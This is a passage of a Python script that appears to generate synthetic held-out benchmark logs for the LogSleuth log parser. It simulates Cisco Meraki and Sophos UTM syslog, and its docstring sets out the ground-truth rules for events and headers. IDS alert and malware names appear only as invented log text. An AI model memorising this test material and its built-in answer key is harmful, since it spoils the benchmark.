#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# SPDX-FileCopyrightText: 2026 The LogSleuth authors
"""Made-up logs of systems LogSleuth was not designed on, each 2,000 lines with the true event and
header fields of every line, invented here (no public data set): the twenty-third round, 20 logs,
written 2026-12-06 by a helper that did not read LogSleuth's code; as found: 0.574. Held out for
one session (0.585 at its end); worked on since.
The harness (unseen_logs_harness.py) runs `logsleuth-cli templates` and `formats` on each and
prints grouping accuracy, events against templates, the learned format and how many lines had
their time, level and component read, and read right.

Lines without a header of their own carry the time, level and component of the record they belong
to: ProxySQL's ASCII tables and "HID: ..." lines under their "Dumping ..." record, YugabyteDB's stack
dump under a long-operation warning, Plone's continuation lines (ZServer's Hostname and Port, the
traceback with its frames, page template details and exception, the HTML of a NotFound) and the line
of six dashes that opens each Zope record (it belongs to the record after it), the Environment lines
inside the quoted Detail of a Process Monitor "Process Start" row, the system's message under a
Robocopy ERROR line. A record that has no header at all gets the time of the last line before it that
writes one (of the first after it at the start of a log) and no level or component: ProxySQL's
"Standard ... rev." banners and its crash backtrace, TIBCO's version banner and the empty lines
around it, the four lines of glog's file header under "Log file created at:" (that line writes a
time), every Robocopy line but "Started :", "Ended :" and the "yyyy/mm/dd hh:mm:ss ERROR" lines. The
Meson log, the Rust server's console and the Quantum ESPRESSO output write no time at all (time kind
None; the one stamp in Meson's "Build started at" and Slurm's "CANCELLED AT" aside). mpv writes the
seconds since it started and the U-Boot capture only has the kernel's seconds since it started, on the
kernel's lines (time kind rel: the firmware's, U-Boot's, the shell's and LAVA's lines write none).
Where a log writes local time without an offset, the host's clock is UTC. Meraki's epoch and rsyslog's
stamp, osquery's calendarTime and unixTime, Sysmon's SystemTime and the syslog stamp, and glog's file
header and its first lines agree; qmail's TAI64N label (2^62 + 10 + Unix seconds, as daemontools
counts) is the time of its line; Procmon's "10:52:43.5489418 AM" and Robocopy's "10:00:03 PM" are
12-hour clocks; Sophos writes "2026:12:01-10:00:00"; Munki "Dec 01 2026 10:00:00 +0000".

Levels are as written: Sophos' severity="..." on its structured lines (pluto's, openvpn's, dhcpd's
and sshd's plain lines write none), glog's letter (YugabyteDB), ProxySQL's bracketed word, TIBCO's
"WARNING:", "ERROR:" or "SEVERE ERROR:" opening the message (its other lines write none), Meson's
"WARNING:" and "DEPRECATION:" lines (the second counts as DEPRECATION or WARNING; the rest of the log
writes none), Mumble's Qt message type letter (<W>: Murmur logs nearly everything as a warning, and
W is its level all the same; <C> critical), mpv's letter, Trusted Firmware's "NOTICE:" and "INFO:"
in the U-Boot capture (nothing else there writes one), Robocopy's ERROR lines (the "ERROR n (0x...)"
line, the system's message under it and "ERROR: RETRY LIMIT EXCEEDED."), Munki's "WARNING:" and
"ERROR:", Zope's level. Meraki, the Rust console, Quantum ESPRESSO, osquery, Sysmon's syslog (the
<Level>4</Level> inside its XML is not a header level), Tailscale, qmail, rsyncd ("rsync error:" is
text) and Procmon write none. The component is Meraki's log category after the device name (flows,
urls, events, ids-alerts, security_event, airmarshal_events, vpn_firewall; not the device name),
the program of a Sophos line (or its sub="..." on a structured line: "ulogd" or "packetfilter"),
glog's source file (YugabyteDB), ProxySQL's source file (a line written without one has none), mpv's
module, the syslog tag in the Sysmon log (sysmon, systemd, gitlab-runner, ...), the subsystem that
starts a tailscaled line (magicsock, wgengine, control, ... or tailscaled itself; systemd for its own
lines; the filter's "Accept:" lines have only tailscaled), Procmon's Process Name, Zope's logger
("Zope.SiteErrorLog", "ZEO.ClientStorage"). TIBCO, Meson, the Rust console, Mumble (the "1 =>" is
the virtual server's number), the U-Boot capture, Quantum ESPRESSO, osquery, qmail, rsyncd, Robocopy
and Munki have none.

The true event of a line is the format string that wrote it: a value filled into a format string is
a variable (the rule text after Meraki's "pattern:", the reason of TIBCO's "connect failed: %s" and of
Mumble's "Connection closed: %s [%d]", YES or NO in Meson's result lines, the result of qmail-remote
after "delivery N: success:", the %o (send or recv) of an rsyncd transfer line, the class column of a
Robocopy file line: "New File", "Newer", "Older" and "*EXTRA File" are one event, as are directory
lines with and without "New Dir"; the command typed at U-Boot's "=> " prompt; the kind of Munki's
"* Processing manifest item %s for %s"; Procmon's Result column), while two format strings that look
alike are two events (Meraki's flows with ports and with an ICMP type, its ids-alerts and
security_event ids_alerted lines; QE's "!    total energy" and "     total energy", its scf accuracy
in fixed and in E notation, atomic positions with and without the fixed-coordinate flags; Tailscale's
"[RATELIMIT] format(...)" with and without "(N dropped)"; Rust's kills by players and by entities;
Mumble's "Kicked" and "Kickbanned"; each line of mpv's A/V desync warning; the box rules of 79 and of 78
dashes in Robocopy, Meson's "-----------" and "-----"). A structured line belongs to its message and
its set of keys: a Sophos line to its id= and keys (a TCP drop with tcpflags, a UDP drop without, an
ICMP drop with type and code), a Meraki "events type=..." line to its type, a RocksDB EVENT_LOG_v1
JSON to its "event" and keys, an osquery result to its query whatever the action (a query's snapshot
line is its own event), a Sysmon record to its EventID, a Procmon row to its Operation and the layout
of its Detail (CreateFile with and without OpenResult, ReadFile with and without I/O Flags,
RegQueryValue with Type/Length/Data and with Length only, RegQueryKey's HandleTags and Name queries).
In a dump, each kind of line is an event: ProxySQL's table rule, header and row; a band-energy row,
a force line or a stress row of Quantum ESPRESSO; a "#" row of U-Boot's TFTP progress (the first,
after "Loading: ", its own); an item line of a Zope page template's Names (the first and last, with
their braces, their own); each line of a Meson test program is the event of its template line (a
constant line such as "        #endif" is one event wherever it stands; a line wholly filled by a
value is the event of the template line it fills). Empty lines, and lines of nothing but blanks, are
one event per log. A Meson subproject's "name| " prefix, the rsyslog and journald headers and the
CSV quoting around Procmon's fields are wrappers: the event is the wrapped program's format.

usage: unseen_logs_round23.py [--only NAME[,NAME]] [--detail] [--list] [--seed N]
  LOGSLEUTH_CLI        the CLI (default build/root/bin/logsleuth-cli)
  LOGSLEUTH_RUN        a prefix that runs it (default: bare when it runs here, else "<repo>/dev exec")
  LOGSLEUTH_BENCH_WORK where the logs are written (default /tmp/logsleuth-bench/unseen-round23)
"""
import datetime as dt
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
WORK = os.environ.get("LOGSLEUTH_BENCH_WORK", "/tmp/logsleuth-bench/unseen-round23")
from unseen_logs_harness import Log, main, N_LINES, UTC, ms3, us6, slowed, fill, checked, ctime, syslog_ts, carry_time, jts, epoch  # noqa: E402


# 1 ---------------------------------------------------------------- Cisco Meraki MX85 security appliance, two MS225 switches and six MR46 access points of a law firm's office, sending to the
#   firm's rsyslog server, /var/log/meraki.log: rsyslog's "Dec  1 10:00:00 10.10.0.1 " (the sender's address, as Meraki's messages carry no host name), then
#   Meraki's "1 <epoch.nanoseconds> <device name> <category> ..." (flows, urls, ids-alerts, security_event, events, airmarshal_events, vpn_firewall); MX flows,
#   URL requests of the clients, IDS alerts, AMP file verdicts, DHCP leases, the site-to-site VPN to the branch going down and up, client VPN users, WAN
#   failover, the switches' port changes and the access points' association, WPA and 802.1X events, rogue SSIDs next door
@checked
def log_meraki(seed):
    L = Log("meraki_mx_syslog", seed, "noyear", False, True)
    g = L.g
    MX = ("10.10.0.1", "HQ-MX85")
    MS = [("10.10.0.2", "HQ-MS225-1F"), ("10.10.0.3", "HQ-MS225-2F")]
    MR = [(f"10.10.0.{11 + i}", n) for i, n in enumerate(["HQ-MR46-Lobby", "HQ-MR46-1F-East", "HQ-MR46-1F-West", "HQ-MR46-2F-East", "HQ-MR46-2F-West", "HQ-MR46-Board"])]
    CLIENTS = [(f"10.10.{g.c([20, 20, 20, 30])}.{g.num(20, 250)}", ":".join(g.HX(2) for _ in range(6))) for _ in range(60)]
    PEERS = [("Branch-Graz-MX68", "203.0.113.77", g.hx(32)), ("Branch-Linz-Z3", "198.51.100.140", g.hx(32))]
    USERS = ["m.huber@kanzlei.example", "s.gruber@kanzlei.example", "a.wagner@kanzlei.example", "it-admin@kanzlei.example"]
    SITES = ["https://www.google.com/", "https://outlook.office365.com/owa/", "https://login.microsoftonline.com/common/oauth2/authorize", "https://www.ris.bka.gv.at/",
             "https://teams.microsoft.com/", "http://ocsp.digicert.com/", "https://www.derstandard.at/", "http://ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab",
             "https://rdb.manz.at/search", "https://fonts.gstatic.com/s/roboto/v30/KFOmCnqEu92Fr1Mu4mxK.woff2"]
    UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
           "Microsoft-CryptoAPI/10.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
           "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18129; Pro)"]
    st = {"wan": "wan1", "vpn": {p[0]: True for p in PEERS}, "cvpn": {}}

    def m(dev, cat, body, ev):
        L.t += dt.timedelta(microseconds=g.num(0, 400000))
        ip, name = dev
        e = epoch(L.t)
        L.emit(f"{syslog_ts(L.t)} {ip} 1 {int(e)}.{us6(L.t)}{g.num(0, 999):03d} {name} {cat} {body}", ev, None, cat)

    def cl():
        return g.c(CLIENTS)

    def flows():
        ip, mac = cl()
        r = g.r.random()
        if r < 0.5:
            dst, port = g.c([(g.ip("pub"), 443), ("10.10.0.10", 53), ("10.10.0.11", 53), (g.ip("pub"), 80), ("10.10.10.5", 445), (g.ip("pub"), 993)])
            m(MX, "flows", f"src={ip} dst={dst} mac={mac} protocol={'udp' if port == 53 else 'tcp'} sport={g.port()} dport={port} pattern: allow all", "flows_ports")
        elif r < 0.75:
            dst, port, pat = g.c([(g.ip("pub"), 25, "1 (dst port 25)"), (g.ip("pub"), 23, "deny all"), (g.ip("pub"), 6881, "3 (dst port 6881:6999)"), ("10.10.10.5", 3389, "2 (src 10.10.30.0/24)")])
            m(MX, "flows", f"src={ip} dst={dst} mac={mac} protocol=tcp sport={g.port()} dport={port} pattern: {pat}", "flows_ports")
        else:
            m(MX, "flows", f"src={ip} dst={g.c(['8.8.8.8', '10.10.0.10', g.ip('pub')])} mac={mac} protocol=icmp type=8 pattern: allow all", "flows_icmp")

    def vpn_fw():
        m(MX, "vpn_firewall", f"src=10.20.{g.c([0, 1])}.{g.num(10, 90)} dst=10.10.10.{g.num(2, 20)} protocol=tcp sport={g.port()} dport={g.c([445, 3389, 1433, 443])} pattern: {g.c(['allow all', '1 (src 10.20.0.0/24)', 'deny all'])}", "vpn_firewall")

    def urls():
        ip, mac = cl()
        u = g.c(SITES)
        meth = "UNKNOWN" if u.startswith("https") else "GET"
        m(MX, "urls", f"src={ip}:{g.port()} dst={g.ip('pub')}:{443 if u.startswith('https') else 80} mac={mac} agent='{g.c(UAS)}' request: {meth} {u}", "urls")

    def ids():
        ip, mac = cl()
        sig, pri, msg = g.c([("1:2027758:3", 2, "ET DNS Query for .cc TLD"), ("1:2013028:7", 2, "ET POLICY curl User-Agent Outbound"), ("1:2024897:2", 1, "ET USER_AGENTS Go HTTP Client User-Agent"),
                             ("1:58741:1", 1, "SERVER-WEBAPP Apache Log4j logging remote code execution attempt"), ("1:2035465:1", 1, "ET INFO Observed DNS Query to .top TLD"),
                             ("1:2402000:6977", 2, "ET DROP Dshield Block Listed Source")])
        inbound = g.r.random() < 0.4
        src = f"{g.ip('pub')}:{g.c([80, 443, g.port()])}" if inbound else f"{ip}:{g.port()}"
        dst = f"{ip}:{g.port()}" if inbound else f"{g.ip('pub')}:{g.c([53, 80, 443])}"
        ts = f"{epoch(L.t):.6f}"
        if g.r.random() < 0.5:
            m(MX, "ids-alerts", f"signature={sig} priority={pri} timestamp={ts} dhost={mac} direction={'ingress' if inbound else 'egress'} protocol={'udp/ip' if dst.endswith(':53') else 'tcp/ip'} src={src} dst={dst} message: {msg}", "ids_alerts")
        else:
            m(MX, "security_event", f"ids_alerted signature={sig} priority={pri} timestamp={ts} dhost={mac} direction={'ingress' if inbound else 'egress'} protocol={'udp/ip' if dst.endswith(':53') else 'tcp/ip'} src={src} dst={dst} decision={g.c(['allowed', 'blocked'])} message: {msg}", "security_ids_alerted")

    def amp():
        ip, mac = cl()
        f = g.c(["invoice_2026-11.zip", "Setup.exe", "Scan_0042.pdf", "update.js", "Bewerbung_Lebenslauf.doc"])
        m(MX, "security_event", f"security_filtering_file_scanned url=http://{g.c(['cdn-dl.example', 'files.sharefast.example', 'updates.example-soft.net'])}/{g.alnum(8)}/{f} src={g.ip('pub')}:80 dst={ip}:{g.port()} mac={mac} name='{g.c(['W32.AutoGen', 'Js.Downloader.Agent', 'W97M.Downloader', ''])}' sha256={g.hx(64)} disposition={g.c(['malicious', 'malicious', 'clean'])} action={g.c(['block', 'allow'])}", "security_file_scanned")

    def dhcp():
        ip, mac = cl()
        if g.r.random() < 0.9:
            m(MX, "events", f"dhcp lease of ip {ip} from server mac {MXMAC} for client mac {mac} from router {ip.rsplit('.', 1)[0]}.1 on subnet 255.255.255.0 with dns 10.10.0.10, 10.10.0.11", "dhcp_lease")
        else:
            m(MX, "events", f"dhcp no offers for mac {mac} host = {ip.rsplit('.', 1)[0]}.1", "dhcp_no_offers")

    def vpn():
        name, contact, ident = g.c(PEERS)
        up = not st["vpn"][name]
        st["vpn"][name] = up
        m(MX, "events", f"type=vpn_connectivity_change vpn_type='site-to-site' peer_contact='{contact}:{g.c([51856, 500, 4500, g.port()])}' peer_ident='{ident}' connectivity='{'true' if up else 'false'}'", "vpn_connectivity_change")

    def client_vpn():
        u = g.c(USERS)
        if u in st["cvpn"]:
            lip, src = st["cvpn"].pop(u)
            m(MX, "events", f"client_vpn_disconnect user id '{u}' local ip {lip} disconnected from {src}", "client_vpn_disconnect")
        else:
            lip, src = f"192.168.250.{g.num(2, 60)}", g.ip("pub")
            st["cvpn"][u] = (lip, src)
            m(MX, "events", f"client_vpn_connect user id '{u}' local ip {lip} connected from {src}", "client_vpn_connect")

    def failover():
        st["wan"] = "wan2" if st["wan"] == "wan1" else "wan1"
        m(MX, "events", f"failover to {st['wan']}", "failover")
        if st["wan"] == "wan2":
            m(MX, "events", "Cellular connection up", "cellular_up")

    def port():
        dev = g.c(MS)
        p = g.num(1, 48)
        sp = g.c(["1Gfdx", "1Gfdx", "100fdx", "10Gfdx"])
        if g.r.random() < 0.5:
            m(dev, "events", f"port {p} status changed from {sp} to down", "port_status")
        else:
            m(dev, "events", f"port {p} status changed from down to {sp}", "port_status")
        if g.r.random() < 0.05:
            m(dev, "events", f"Port {p} received an STP BPDU from {g.mac().upper()} so the port was blocked", "stp_bpdu_blocked")

    def wifi():
        dev = g.c(MR)
        ip, mac = cl()
        radio = g.c([0, 1, 1])
        ch = g.c([1, 6, 11]) if radio == 0 else g.c([36, 44, 52, 100, 116])
        vap = g.c([0, 0, 1, 2])
        aid = g.num(10 ** 8, 2 * 10 ** 9)
        r = g.r.random()
        if r < 0.3:
            m(dev, "events", f"type=association radio='{radio}' vap='{vap}' client_mac='{mac}' channel='{ch}' reason='0' rssi='{g.num(8, 60)}'", "wifi_association")
            if vap == 1:
                m(dev, "events", f"type=8021x_eap_success radio='{radio}' vap='{vap}' client_mac='{mac}' client_ip='{ip}' identity='{g.c(USERS)}' aid='{aid}'", "wifi_eap_success")
            else:
                m(dev, "events", f"type=wpa_auth radio='{radio}' vap='{vap}' client_mac='{mac}' aid='{aid}'", "wifi_wpa_auth")
        elif r < 0.62:
            m(dev, "events", f"type=disassociation radio='{radio}' vap='{vap}' client_mac='{mac}' channel='{ch}' reason='{g.c([1, 3, 8, 8, 8])}' instigator='{g.c([1, 2, 2, 3])}' duration='{g.f(2, 30000, 3)}' "
                             f"auth_neg_dur='{g.f(0, 0.1, 3)}' last_auth_ago='{g.f(2, 30000, 3)}' is_wpa='1' full_conn='{g.f(0.05, 3, 3)}' ip_resp='{g.f(0.05, 3, 3)}' ip_src='{ip}' arp_resp='{g.f(0.05, 3, 3)}' "
                             f"arp_src='{ip}' dns_server='10.10.0.10' dns_req_rtt='{g.f(0.001, 0.2, 3)}' dns_resp='{g.f(0.05, 3, 3)}' aid='{aid}'", "wifi_disassociation")
        elif r < 0.82:
            m(dev, "events", f"type=wpa_deauth radio='{radio}' vap='{vap}' client_mac='{mac}' aid='{aid}'", "wifi_wpa_deauth")
        elif r < 0.9:
            m(dev, "events", f"type=8021x_eap_failure radio='{radio}' vap='1' client_mac='{mac}' identity='{g.c(USERS + ['anonymous', 'host/NB-' + g.HX(6) + '.kanzlei.example'])}' aid='{aid}'", "wifi_eap_failure")
        else:
            m(dev, "events", f"type=splash_auth ip='{ip} [More Information] ' duration='3600' vap='2' download='5242880bps' upload='2097152bps'", "wifi_splash_auth")

    def rogue():
        dev = g.c(MR)
        ssid = g.c(["FRITZ!Box 7590 KQ", "Vodafone-8B2C", "DIRECT-4F-HP OfficeJet Pro 9010", "A1-WLAN-5G", "Kanzlei-Guest", "Magenta-7F31"])
        kind = "ssid_spoofing_detected" if ssid == "Kanzlei-Guest" else "rogue_ssid_detected"
        m(dev, "airmarshal_events", f"type={kind} ssid='{ssid}' bssid='{g.mac()}' src='{g.mac()}' dst='ff:ff:ff:ff:ff:ff' wired_mac='00:00:00:00:00:00' vlan_id='0' channel='{g.c([1, 6, 11, 36, 100])}' rssi='{g.num(4, 40)}' fc_type='0' fc_subtype='8'", "airmarshal_" + kind)

    MXMAC = ":".join(g.hx(2) for _ in range(6))
    ev = [(40, flows), (3, vpn_fw), (16, urls), (4, ids), (0.6, amp), (8, dhcp), (0.5, vpn), (0.8, client_vpn), (0.05, failover), (3, port), (18, wifi), (2, rogue)]
    return L.run(slowed(L, ev, 3), None)


# 2 ---------------------------------------------------------------- Sophos UTM 9.7 (the software appliance) at the edge of an engineering office, its remote syslog as the log server keeps it:
#   "2026:12:01-10:00:00 utm-1 ulogd[4711]: id="2001" severity="info" sys="SecureNet" sub="packetfilter" name="Packet dropped" ..." (the UTM's own stamp
#   with colons in the date, its host name, the program); the packet filter's drops and accepts, the web proxy's requests and blocks, IPS alerts, WebAdmin
#   and User Portal logins, the IPsec tunnel to a branch rekeying (pluto's plain lines and its structured ones), SSL VPN users (openvpn's plain lines and
#   its structured ones), DHCP leases, sshd
@checked
def log_sophos(seed):
    L = Log("sophos_utm_remote_syslog", seed, "full", True, True)
    g = L.g
    st = {"ulogd": g.num(3000, 9000), "http": g.num(3000, 9000), "snort": g.num(3000, 9000), "pluto": g.num(3000, 9000), "ovpn": g.num(3000, 9000),
          "dhcpd": g.num(3000, 9000), "state": g.num(100, 900), "isakmp": g.num(10, 90), "users": {}}
    LAN = lambda: f"172.16.{g.c([10, 10, 20, 30])}.{g.num(10, 250)}"
    CONN = "S_Branch-Muenchen_0"
    USERS = ["jmeier", "lhofmann", "tweber", "kschulz", "admin", "pfischer"]

    def s(prog, pid, body, ev, lv=None, sub=None):
        L.t += dt.timedelta(milliseconds=g.num(0, 600))
        L.emit(f"{L.t:%Y:%m:%d-%H:%M:%S} utm-1 {prog}{'[' + str(pid) + ']' if pid else ''}: {body}", ev, lv, f"{prog}|{sub}" if sub else prog)

    def kv(pairs):
        return " ".join(f'{k}="{v}"' for k, v in pairs)

    def pf():
        r = g.r.random()
        src, dst = g.ip("pub"), "80.123.45.67"
        if r < 0.5:
            proto = g.c(["6", "6", "17"])
            base = [("id", "2001"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "packetfilter"), ("name", "Packet dropped"), ("action", "drop"), ("fwrule", "60001"),
                    ("initf", "eth1"), ("srcmac", g.mac()), ("dstmac", "00:1a:8c:" + ":".join(g.hx(2) for _ in range(3))), ("srcip", src), ("dstip", dst), ("proto", proto),
                    ("length", g.c([40, 44, 52, 60]) if proto == "6" else g.num(40, 500)), ("tos", "0x00"), ("prec", "0x00"), ("ttl", g.num(40, 250)), ("srcport", g.port()),
                    ("dstport", g.c([22, 23, 445, 3389, 8080, 1433, 5900, 5060, 123, g.num(1, 65535)]))]
            if proto == "6":
                s("ulogd", st["ulogd"], kv(base + [("tcpflags", g.c(["SYN", "SYN", "ACK RST", "ACK FIN"]))]), "pf_drop_tcp", "info", "packetfilter")
            else:
                s("ulogd", st["ulogd"], kv(base), "pf_drop_udp", "info", "packetfilter")
        elif r < 0.6:
            s("ulogd", st["ulogd"], kv([("id", "2001"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "packetfilter"), ("name", "Packet dropped"), ("action", "drop"), ("fwrule", "60001"),
                                        ("initf", "eth1"), ("srcmac", g.mac()), ("dstmac", "00:1a:8c:" + ":".join(g.hx(2) for _ in range(3))), ("srcip", src), ("dstip", dst), ("proto", "1"),
                                        ("length", g.c([28, 60, 84])), ("tos", "0x00"), ("prec", "0x00"), ("ttl", g.num(40, 250)), ("type", g.c([8, 8, 3, 13])), ("code", 0)]), "pf_drop_icmp", "info", "packetfilter")
        elif r < 0.85:
            s("ulogd", st["ulogd"], kv([("id", "2002"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "packetfilter"), ("name", "Packet accepted"), ("action", "accept"), ("fwrule", g.num(1, 40)),
                                        ("initf", "eth0"), ("outitf", "eth1"), ("srcmac", g.mac()), ("dstmac", g.mac()), ("srcip", LAN()), ("dstip", g.ip("pub")), ("proto", "6"), ("length", 60),
                                        ("tos", "0x00"), ("prec", "0x00"), ("ttl", 127), ("srcport", g.port()), ("dstport", g.c([443, 993, 22, 8443])), ("tcpflags", "SYN")]), "pf_accept_tcp", "info", "packetfilter")
        else:
            s("ulogd", st["ulogd"], kv([("id", "2003"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "packetfilter"), ("name", "Packet rejected"), ("action", "reject"), ("fwrule", g.num(41, 60)),
                                        ("initf", "eth0"), ("srcmac", g.mac()), ("dstmac", g.mac()), ("srcip", LAN()), ("dstip", g.ip("pub")), ("proto", "17"), ("length", g.num(40, 300)),
                                        ("tos", "0x00"), ("prec", "0x00"), ("ttl", 127), ("srcport", g.port()), ("dstport", g.c([53, 123, 1900]))]), "pf_reject_udp", "info", "packetfilter")

    def http():
        host = g.c(["www.bosch-professional.com", "login.microsoftonline.com", "cdn.autodesk.com", "www.heise.de", "update.solidworks.com", "outlook.office.com", "www.youtube.com",
                    "clients4.google.com", "dl.teamviewer.com", "www.ebay.de"])
        path = g.c(["/", "/api/v2/status", "/common/oauth2/v2.0/token", "/owa/", f"/{g.alnum(10)}.js", f"/files/{g.alnum(6)}/setup.exe", "/watch?v=" + g.alnum(11, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")])
        cat, catname = g.c([("178", "Internet Services"), ("150", "Software/Hardware"), ("160", "Information Technology"), ("106", "News"), ("139", "Streaming Media"), ("127", "Shopping")])
        blocked = catname in ("Streaming Media", "Shopping") and g.r.random() < 0.6
        base = [("id", "0002" if blocked else "0001"), ("severity", "info"), ("sys", "SecureWeb"), ("sub", "http"), ("name", "web request blocked" if blocked else "http access"),
                ("action", "block" if blocked else "pass"), ("method", g.c(["GET", "GET", "POST", "CONNECT"])), ("srcip", LAN()), ("dstip", g.ip("pub")), ("user", g.c(USERS[:4] + [""])),
                ("group", g.c(["", "Engineering", "Office"])), ("ad_domain", g.c(["", "INGBUERO"])), ("statuscode", 403 if blocked else g.c([200, 200, 200, 204, 301, 302, 304, 404])),
                ("cached", 0), ("profile", "REF_DefaultHTTPProfile (Default Web Filter Profile)"), ("filteraction", "REF_DefaultHTTPCFFAction (Default content filter action)"),
                ("size", g.num(0, 900000)), ("request", "0x" + g.hx(8)), ("url", f"https://{host}{path}"), ("referer", ""), ("error", ""), ("authtime", g.num(0, 90)),
                ("dnstime", g.num(0, 90)), ("aptptime", 0), ("cattime", g.num(50, 900)), ("avscantime", g.num(0, 3000)), ("fullreqtime", g.num(1000, 900000)), ("device", 0), ("auth", g.c([0, 2])),
                ("ua", g.c(["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "Microsoft-CryptoAPI/10.0", "Microsoft Office/16.0"])),
                ("exceptions", ""), ("category", cat), ("reputation", g.c(["neutral", "trusted", "unverified"])), ("categoryname", catname)]
        if blocked:
            s("httpproxy", st["http"], kv(base + [("reason", "category")]), "http_blocked", "info", "http")
        else:
            s("httpproxy", st["http"], kv(base + [("content-type", g.c(["text/html", "application/json", "application/octet-stream", "image/png"]))]), "http_access", "info", "http")

    def http_err():
        s("httpproxy", st["http"], kv([("id", "0003"), ("severity", "info"), ("sys", "SecureWeb"), ("sub", "http"), ("request", "0x" + g.hx(8)), ("function", "read_request_headers"),
                                      ("file", "request.c"), ("line", g.c([1584, 1619])), ("message", g.c(["read_request_headers: read error: Connection reset by peer", "read_request_headers: read error: Connection timed out"]))]),
          "http_read_error", "info", "http")

    def ips():
        sid, cls, reason = g.c([("58741", "Attempted User Privilege Gain", "SERVER-OTHER Apache Log4j logging remote code execution attempt"),
                                ("41818", "Attempted Administrator Privilege Gain", "SERVER-WEBAPP Microsoft Exchange Server remote code execution attempt"),
                                ("2023753", "Misc activity", "SCAN Masscan port scan"), ("46316", "Web Application Attack", "SERVER-WEBAPP PHP CGI command injection attempt")])
        s("snort", st["snort"], kv([("id", "2101"), ("severity", "warn"), ("sys", "SecureNet"), ("sub", "ips"), ("name", "Intrusion protection alert"), ("action", "drop"), ("reason", reason),
                                    ("group", g.c([500, 700, 930])), ("srcip", g.ip("pub")), ("dstip", "80.123.45.67"), ("proto", "6"), ("srcport", g.port()), ("dstport", g.c([80, 443, 25])),
                                    ("sid", sid), ("class", cls), ("priority", g.c([1, 2])), ("generator", 1), ("msgid", 0)]), "ips_alert", "warn", "ips")

    def auth():
        u = g.c(USERS)
        caller = g.c(["webadmin", "portal", "portal", "openvpn"])
        ip = LAN() if caller != "openvpn" else g.ip("pub")
        if g.r.random() < 0.85:
            s("aua", g.num(2000, 40000), kv([("id", "3004"), ("severity", "info"), ("sys", "System"), ("sub", "auth"), ("name", "Authentication successful"), ("srcip", ip), ("host", ""),
                                             ("user", u), ("caller", caller), ("engine", "adirectory" if u != "admin" else "local")]), "auth_ok", "info", "auth")
        else:
            s("aua", g.num(2000, 40000), kv([("id", "3005"), ("severity", "warn"), ("sys", "System"), ("sub", "auth"), ("name", "Authentication failed"), ("srcip", ip), ("host", ""),
                                             ("user", g.c(USERS + ["administrator", "test"])), ("caller", caller), ("reason", "DENIED")]), "auth_failed", "warn", "auth")

    def rekey():
        p = st["pluto"]
        st["state"] += 1
        n = st["state"]
        s("pluto", p, f'"{CONN}" #{n}: initiating Quick Mode PSK+ENCRYPT+TUNNEL+PFS+UP+IKEV1_ALLOW+IKEV2_ALLOW+SAREF_TRACK+IKE_FRAG_ALLOW+ESN_NO {{using isakmp#{st["isakmp"]} msgid:{g.hx(8)} proposal=AES_CBC_256-HMAC_SHA2_256_128 pfsgroup=MODP2048}}', "pluto_initiating_qm")
        L.tick(0.3)
        s("pluto", p, f'"{CONN}" #{n}: STATE_QUICK_I2: sent QI2, IPsec SA established tunnel mode {{ESP=>0x{g.hx(8)} <0x{g.hx(8)} xfrm=AES_CBC_256-HMAC_SHA2_256_128 NATOA=none NATD=none DPD=active}}', "pluto_sa_established")
        if g.r.random() < 0.5:
            s("pluto", p, f'"{CONN}" #{n - 1}: deleting state (STATE_QUICK_I2) and sending notification', "pluto_deleting_state")
        if g.r.random() < 0.15:
            st["isakmp"] = n + 1
            s("pluto", p, f'"{CONN}" #{n + 1}: initiating v1 Main Mode to replace #{st["isakmp"] - g.num(5, 40)}', "pluto_main_mode")
            s("pluto", p, f'"{CONN}" #{n + 1}: STATE_MAIN_I4: ISAKMP SA established {{auth=PRESHARED_KEY cipher=aes_256 integ=sha2_256 group=MODP2048}}', "pluto_isakmp_established")
            st["state"] += 1

    def tunnel_flap():
        p = st["pluto"]
        s("pluto", p, f'"{CONN}" #{st["state"]}: DPD: No response from peer - declaring peer dead', "pluto_dpd_dead")
        s("pluto", p, kv([("id", "2204"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "vpn"), ("event", "Connection lost"), ("variant", "ipsec"), ("connection", "S_Branch-Muenchen"),
                          ("address", "91.64.12.188"), ("local_net", "172.16.0.0/16"), ("remote_net", "10.40.0.0/24")]), "pluto_connection_lost", "info", "vpn")
        L.tick(30)
        s("pluto", p, kv([("id", "2203"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "vpn"), ("event", "Connection up"), ("variant", "ipsec"), ("connection", "S_Branch-Muenchen"),
                          ("address", "91.64.12.188"), ("local_net", "172.16.0.0/16"), ("remote_net", "10.40.0.0/24")]), "pluto_connection_up", "info", "vpn")

    def ssl_vpn():
        u = g.c(USERS[:5])
        p = st["ovpn"]
        if u in st["users"]:
            ip, vip, port = st["users"].pop(u)
            s("openvpn", p, f"{u}/{ip}:{port} SIGTERM[soft,remote-exit] received, client-instance exiting", "ovpn_sigterm")
            s("openvpn", p, kv([("id", "2202"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "vpn"), ("event", "Connection terminated"), ("username", u), ("variant", "ssl"),
                                ("srcip", ip), ("virtual_ip", vip)]), "ovpn_terminated", "info", "vpn")
        else:
            ip, vip, port = g.ip("pub"), f"10.242.2.{g.num(2, 90)}", g.port()
            st["users"][u] = (ip, vip, port)
            s("openvpn", p, f"TCP connection established with [AF_INET]{ip}:{port}", "ovpn_tcp_established")
            s("openvpn", p, f"{ip}:{port} TLS: Initial packet from [AF_INET]{ip}:{port}, sid={g.hx(8)} {g.hx(8)}", "ovpn_initial_packet")
